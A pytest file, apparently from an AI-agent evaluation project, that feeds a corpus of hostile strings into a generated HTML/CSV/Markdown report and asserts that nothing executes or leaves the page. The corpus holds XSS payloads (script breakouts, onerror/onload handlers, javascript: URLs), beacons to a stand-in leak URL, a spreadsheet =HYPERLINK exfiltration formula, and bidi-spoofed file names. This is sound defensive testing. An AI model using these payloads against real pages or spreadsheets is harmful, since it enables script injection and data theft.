"""What a hostile world, model or user may say, on the page in a real browser: nothing runs, nothing leaves it."""

import csv
import io
import os
import re

import pytest

from agentrl.eval.report import write_report
from tests.eval.report_runs import episode, write_cells, write_evaluation
from tests.eval.test_report_page import WIDTHS, browser, opened

__all__ = ["browser", "opened"]  # fixtures

CORPUS = {
    "script": "<script>document.title='run'</script>",
    "end of a script": "</script><script>document.title='run'</script>",
    "end of a script, spelled oddly": "</SCRIPT\t\n bar><ScRiPt>document.title='run'</sCrIpT>",
    "comment in a script": "<!--<script>",
    "end of the style": "</style><style>*{display:none!important}</style>",
    "handler": '"><img src=x onerror="document.title=\'run\'">',
    "handler in single quotes": "'><svg/onload=document.title='run'>",
    "image elsewhere": '<img src="http://127.0.0.1:9/leak"><link rel=stylesheet href=//127.0.0.1:9/leak>',
    "frame": '<iframe srcdoc="<script>top.document.title=1</script>"></iframe><object data="data:text/html,x">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/leak"><base href="http://127.0.0.1:9/">',
    "form": '<form action="http://127.0.0.1:9/leak"><button autofocus onfocus=alert(1)>x</button></form>',
    "broken tags": "<div <p></b></table></main></section></dialog><a href='",
    "javascript link": "[x](javascript:alert(1)) <a href='javascript:alert(1)'>x</a> javascript:alert(1)",
    "data url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "template": "{{ 7 * 7 }}{% for x in y %}{# #}${7*7}`${alert(1)}`",
    "escapes": "\\u003cscript\\u003e \\x3cb\\x3e %3Cscript%3E",
    "line separators": "a\u2028document.title='run'\u2029b\u0085c",
    "control characters": "\x00\x01\x07\x08\x0b\x0c\x1b[31m\x1b]0;run\x07\x7f\x9b",
    "direction": "\u202egnp.exe\u202c \u2066\u2067\u2069 \u200f\u061c",
    "lone surrogates": "\ud800 \udfff \ud83d",
    "invisible": "\u200b\ufeff\u2060\u00ad\U000e0041\ufff9",
    "combining": "Z" + "\u0351\u0300" * 400,
    "long word": "x" * 50_000,
    "many lines": "line\n" * 5_000,
    "markdown": "# x\n![i](http://127.0.0.1:9/leak)\n| a | b |\n```\n<details><summary>x</summary>",
    "formula": '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"x")\n+1\t@SUM(1)\r\n-2',
    "prototype": "__proto__",
    "constructor": "constructor",
    "selector": "a[href]:has(*) #reader \"'\\",
    "nothing": "",
}


def written(folder, text):
    """An evaluation in which everything that others can say is this text."""
    name = text.encode("utf-8", "ignore").decode()  # of a task no half characters: its panel could not be hashed
    used = {"prompt_tokens": 5, "output_tokens": 3, "reasoning": text}
    played = [
        episode(
            f"{name}{n}",
            [text, text, "look"],
            kind=text or "x",
            texts=[text, text, text],
            split=text,
            success=n == 0,
            ended="world_failure" if n == 2 else "done",
            failure=text if n == 2 else None,
            used=used,
        )
        for n in range(6)
    ]
    for trajectory in played:
        trajectory.turns[1].report = text
        trajectory.turns[2].kind = "summarise"
    return write_evaluation(folder, played, policy=text, usage={"policy": {"currency": text, "prices_of": text}})


@pytest.mark.parametrize("name", CORPUS)
def test_nothing_runs_and_nothing_leaves_the_page(opened, tmp_path, name):
    folder = written(tmp_path / "e", CORPUS[name])
    page = opened(write_report(folder), viewport={"width": WIDTHS["phone"], "height": 800})
    title = page.title()
    elements = page.evaluate("document.querySelectorAll('main :is(img, script, iframe, object, style, link)').length")
    page.click("#list li:first-child a")
    page.wait_for_selector("dialog[open] .turn")
    assert page.evaluate("document.documentElement.scrollWidth") <= WIDTHS["phone"]
    assert page.evaluate("document.querySelector('dialog').scrollWidth") <= WIDTHS["phone"]
    inside = "document.querySelectorAll('dialog :is(img, script, iframe, object, style, link, form, a)').length"
    assert (elements, page.evaluate(inside), page.title()) == (0, 0, title)
    links = page.evaluate("[...document.querySelectorAll('a')].map((a) => a.getAttribute('href'))")
    assert all(link.startswith("#") for link in links) and page.evaluate("document.forms.length") == 1
    page.click("#shut")
    page.evaluate("document.querySelector('a[data-filter]').click()")
    assert "episodes; " in page.inner_text("#count")
    rows = list(csv.reader(io.StringIO((folder / "episodes.csv").read_text(encoding="utf-8-sig"))))
    assert len(rows) == 7 and not any(value.startswith(("=", "+", "@", "-", "\t")) for row in rows for value in row)
    markdown = (folder / "report.md").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)(?:<|\[|\||`)(?:/?\w|!--)", re.sub(r"^\|.*\|$", "", markdown, flags=re.MULTILINE))


def test_names_of_cells_do_not_lead_out_of_the_page(opened, tmp_path):
    names = [text for text in CORPUS.values() if text and "/" not in text and "\x00" not in text and len(text) < 100]
    safe = [name for name in names if name == name.encode("utf-8", "ignore").decode()]
    root = write_cells(tmp_path / "m", {name: {"played": [episode("a")]} for name in safe}, {"<b>x</b>": "<i>y</i>"})
    page = opened(write_report(root))
    links = page.evaluate("[...document.querySelectorAll('main a')].map((a) => a.href)")
    assert len(links) == len(safe) > 8 and all(link.startswith(f"file://{root}/") for link in links)
    assert page.evaluate("document.querySelectorAll('main :is(img, script, b, i):not(td b)').length") == 0
    assert len(os.listdir(root)) == len(safe) + 6


def test_the_corpus_holds_what_it_is_for():
    joined = "".join(CORPUS.values())
    for sign in (
        "</script>",
        "<!--",
        "\u2028",
        "\u202e",
        "\ud800",
        "\x1b",
        "javascript:",
        "data:",
        "=HYPERLINK",
        "![i]",
    ):
        assert sign in joined
